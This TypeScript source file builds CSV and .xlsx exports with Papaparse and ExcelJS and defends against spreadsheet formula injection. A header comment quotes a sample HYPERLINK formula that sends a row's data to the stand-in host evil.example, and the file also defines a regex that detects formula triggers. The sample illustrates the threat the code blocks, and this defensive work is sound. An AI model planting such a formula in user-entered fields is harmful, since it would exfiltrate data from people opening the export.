import type { Buffer as XlsxBuffer } from 'exceljs';
import { formatDate, formatDateTime } from './format';

/**
 * The contents of the CSV and Excel exports, with no browser API: the panel wraps them in a Blob
 * and a download link (download.ts); the tests build and read them back in node. Papaparse and
 * ExcelJS load only when a file is built, so the list pages do not carry them.
 *
 * A cell's value comes from whoever typed it (a member's name, a unit's name, an occupation), so
 * it must never reach a spreadsheet as a formula: `=HYPERLINK("http://evil.example/?d="&B2,"x")`
 * as a name would send the row's data to that site from the computer of whoever opens the export.
 */

/** A date or a date-time to write as a real date in Excel and as dd/mm/yyyy text in CSV. */
export interface ExportDate {
  /** For a calendar date: midnight UTC of that day. For a date-time: the instant. */
  at: Date;
  withTime: boolean;
}
export type ExportCell = string | number | boolean | null | undefined | ExportDate;

const ISO_DAY = /^(\d{4})-(\d{2})-(\d{2})$/;

/** '2024-03-07' (or an ISO date-time, its date part) → a calendar date cell; other text is kept as text. */
export function dateCell(value: unknown): ExportCell {
  if (value == null || value === '') return '';
  const m = ISO_DAY.exec(String(value).slice(0, 10));
  if (!m) return String(value);
  const at = new Date(Date.UTC(Number(m[1]), Number(m[2]) - 1, Number(m[3])));
  return Number.isNaN(at.getTime()) ? String(value) : { at, withTime: false };
}

/** An ISO date-time → a date-time cell (shown in local time, as the list shows it). */
export function dateTimeCell(value: unknown): ExportCell {
  if (value == null || value === '') return '';
  const at = new Date(String(value));
  return Number.isNaN(at.getTime()) ? String(value) : { at, withTime: true };
}

const isExportDate = (v: unknown): v is ExportDate => typeof v === 'object' && v !== null && (v as ExportDate).at instanceof Date;

/**
 * Text that a spreadsheet reads as a formula when it opens a CSV: the characters OWASP lists
 * (=, +, -, @, tab, carriage return) at the start of a cell. Papaparse's `escapeFormulae: true`
 * uses /^[=+\-@\t\r].*$/, which misses a value that also holds a line break (`.` stops at it and
 * `$` needs the end of the text): "=1+1\nnote" goes out as is (mholt/PapaParse#1149, open in
 * 5.7.1). The first character alone decides, so that is all this pattern looks at.
 */
export const FORMULA_TRIGGER = /^[=+\-@\t\r]/;

/** What a cell shows as text (CSV cells, column widths). */
export function cellText(v: ExportCell): string {
  if (v == null) return '';
  if (isExportDate(v)) return v.withTime ? formatDateTime(v.at.toISOString()) : formatDate(v.at.toISOString().slice(0, 10));
  if (typeof v === 'number') return Number.isFinite(v) ? String(v) : '';
  return String(v);
}

/** A value fit for a CSV cell: numbers stay numbers (so -5 is not escaped), the rest is text. */
const csvValue = (v: ExportCell): string | number => (typeof v === 'number' && Number.isFinite(v) ? v : cellText(v));

/**
 * CSV text with a UTF-8 BOM (without it Excel reads Vietnamese as Windows-1258 mojibake).
 * Papaparse's `escapeFormulae` puts an apostrophe before a text cell that starts like a formula
 * (and quotes it): Excel and LibreOffice then show it as text, apostrophe included. A number
 * cell is never escaped: -5 stays the number -5.
 */
export async function buildCsv(header: string[], rows: ExportCell[][]): Promise<string> {
  const Papa = (await import('papaparse')).default;
  const table = [header, ...rows.map((r) => r.map(csvValue))];
  return (
    '\ufeff' +
    Papa.unparse(table, {
      escapeFormulae: FORMULA_TRIGGER,
      newline: '\r\n',
      // A semicolon is the list separator of Excel under a Vietnamese locale: quoted, such a
      // cell stays one cell whichever separator the reader picks.
      quotes: (value: unknown) => typeof value === 'string' && value.includes(';'),
    })
  );
}

const DATE_FORMAT = 'dd/mm/yyyy';
const DATE_TIME_FORMAT = 'dd/mm/yyyy hh:mm';
/** Excel's Text number format: what a cell typed with a leading apostrophe gets. */
const TEXT_FORMAT = '@';

/** A cell value ExcelJS writes as data, never as a formula or a link. */
function xlsxValue(v: ExportCell): string | number | boolean | Date | null {
  if (v == null) return null;
  if (isExportDate(v)) {
    if (!v.withTime) return v.at;
    // ExcelJS turns a Date into a serial number from its UTC fields; Excel has no time zone.
    // Shift so that the cell shows the local wall-clock time, as the panel and the CSV do.
    return new Date(v.at.getTime() - v.at.getTimezoneOffset() * 60_000);
  }
  if (typeof v === 'number') return Number.isFinite(v) ? v : null;
  if (typeof v === 'boolean') return v;
  // Anything else as text: ExcelJS makes a formula or a hyperlink only of an object
  // ({ formula }, { text, hyperlink }), so a string can never become one.
  return String(v);
}

/**
 * An .xlsx of one sheet. ExcelJS writes every string as a shared string (a text cell, `t="s"`),
 * and Excel, LibreOffice and Google Sheets show a text cell as it is: `=HYPERLINK(…)` in a name
 * is displayed, never evaluated, so the value is written unchanged (no apostrophe: in this
 * format it would be part of the data). Such a cell also gets the Text number format, so that
 * editing it in Excel (F2, Enter) keeps it text instead of turning it into a formula: Excel's own
 * marker for that, the quotePrefix style attribute, is not written by ExcelJS 4.4.
 * Dates are real dates (serial numbers) shown as dd/mm/yyyy, so they sort and filter as dates.
 */
export async function buildXlsx(sheetName: string, header: string[], rows: ExportCell[][], widths?: number[]): Promise<XlsxBuffer> {
  const ExcelJS = (await import('exceljs')).default;
  const wb = new ExcelJS.Workbook();
  wb.creator = 'CongDoan';
  // Excel refuses these characters in a sheet name, and names over 31 characters.
  const ws = wb.addWorksheet(sheetName.replace(/[*?:\\/[\]\s]+/g, ' ').trim().slice(0, 31).trim() || 'Sheet1');
  for (const [i, r] of [header, ...rows].entries()) {
    const row = ws.addRow(r.map(xlsxValue));
    r.forEach((v, j) => {
      const cell = row.getCell(j + 1);
      if (isExportDate(v)) cell.numFmt = v.withTime ? DATE_TIME_FORMAT : DATE_FORMAT;
      else if (typeof cell.value === 'string' && FORMULA_TRIGGER.test(cell.value)) cell.numFmt = TEXT_FORMAT;
    });
    if (i === 0) row.font = { bold: true };
  }
  header.forEach((h, i) => {
    const texts = [h, ...rows.slice(0, 200).map((r) => cellText(r[i]))];
    ws.getColumn(i + 1).width = widths?.[i] ?? Math.min(50, Math.max(10, ...texts.map((t) => t.length + 2)));
  });
  ws.views = [{ state: 'frozen', ySplit: 1 }];
  return wb.xlsx.writeBuffer();
}
